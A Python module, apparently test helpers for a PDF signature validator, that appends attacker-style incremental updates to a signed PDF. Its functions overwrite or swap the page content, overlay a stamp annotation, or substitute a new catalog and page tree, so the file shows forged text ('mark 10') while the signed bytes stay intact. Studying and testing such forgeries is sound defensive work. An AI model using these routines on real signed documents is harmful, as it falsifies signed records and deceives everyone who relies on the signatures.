"""Incremental updates as an attacker appends them to a signed PDF: the signed bytes stay, what they show does not."""

from __future__ import annotations

import re
from io import BytesIO

import pikepdf


def appended(signed: bytes, objects: dict[int, bytes], comment: bytes = b"", root: bytes = b"") -> bytes:
    """An update that replaces or adds objects. root: of the trailer, such as `7 0 R`; empty for the one there is."""
    previous = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    root = root or re.findall(rb"/Root (\d+ \d+ R)", signed)[-1]
    size = max(int(re.findall(rb"/Size (\d+)", signed)[-1]), *(number + 1 for number in objects))
    out, table = signed, b"xref\n"
    for number, body in objects.items():
        table += b"%d 1\n%010d 00000 n \n" % (number, len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    out += b"%" + comment + b"\n"
    trailer = b"trailer\n<< /Size %d /Root %s /Prev %d >>\n" % (size, root, previous)
    return out + table + trailer + b"startxref\n%d\n%%%%EOF\n" % len(out)


def numbers_of(signed: bytes) -> tuple[int, int, bytes]:
    """Object numbers of the page's content and of the signature, and the CMS with its padding."""
    with pikepdf.open(BytesIO(signed)) as pdf:
        value = pdf.Root.AcroForm.Fields[0].V
        return pdf.pages[0].obj["/Contents"].objgen[0], value.objgen[0], bytes(value.Contents)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A stream object's body."""
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(content), content)


FORGED_TEXT = b"BT /F1 24 Tf 100 700 Td (mark 10) Tj ET"


def next_number(signed: bytes) -> int:
    """An object number that nobody uses."""
    return int(re.findall(rb"/Size (\d+)", signed)[-1])


def body_of(signed: bytes, number: int) -> bytes:
    """An object's body as it lies in the file, the last of its number."""
    bodies: list[bytes] = re.findall(rb"\n%d 0 obj\s+(.*?)\s*endobj" % number, signed, re.DOTALL)
    return bodies[-1]


def page_number(signed: bytes) -> int:
    """Of the first page."""
    with pikepdf.open(BytesIO(signed)) as pdf:
        return int(pdf.pages[0].obj.objgen[0])


def changed_content(signed: bytes) -> bytes:
    """The page's content stream overwritten."""
    return appended(signed, {numbers_of(signed)[0]: stream(FORGED_TEXT)})


def other_content(signed: bytes) -> bytes:
    """The page points at another content stream; the old one stays."""
    page, fresh = page_number(signed), next_number(signed)
    body = re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % fresh, body_of(signed, page))
    return appended(signed, {page: body, fresh: stream(FORGED_TEXT)})


def covered_by_annotation(signed: bytes) -> bytes:
    """A note with an appearance laid over the marks."""
    page, note = page_number(signed), next_number(signed)
    look = note + 1
    body = body_of(signed, page)
    annots = re.search(rb"/Annots \[(.*?)\]", body, re.DOTALL)
    kept = annots.group(1) if annots else b""
    body = re.sub(rb"/Annots \[.*?\]", b"", body, flags=re.DOTALL)
    body = body.rstrip().removesuffix(b">>") + b"/Annots [%s %d 0 R] >>" % (kept, note)
    annotation = b"<< /Type /Annot /Subtype /Stamp /Rect [90 690 400 730] /F 4 /AP << /N %d 0 R >> >>" % look
    form = stream(FORGED_TEXT, b"/Type /XObject /Subtype /Form /BBox [0 0 310 40]")
    return appended(signed, {page: body, note: annotation, look: form})


def other_pages(signed: bytes) -> bytes:
    """A new catalog with a page tree of its own; the signed pages stay, and nobody sees them."""
    first = next_number(signed)
    with pikepdf.open(BytesIO(signed)) as pdf:
        form = pdf.Root.AcroForm.objgen[0] if pdf.Root.AcroForm.is_indirect else 0
    form_entry = b"/AcroForm %d 0 R" % form if form else re.findall(rb"/AcroForm <<.*?>>", signed, re.DOTALL)[-1]
    objects = {
        first: b"<< /Type /Catalog /Pages %d 0 R %s >>" % (first + 1, form_entry),
        first + 1: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (first + 2),
        first + 2: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>" % (first + 1, first + 3),
        first + 3: stream(FORGED_TEXT),
    }
    return appended(signed, objects, root=b"%d 0 R" % first)
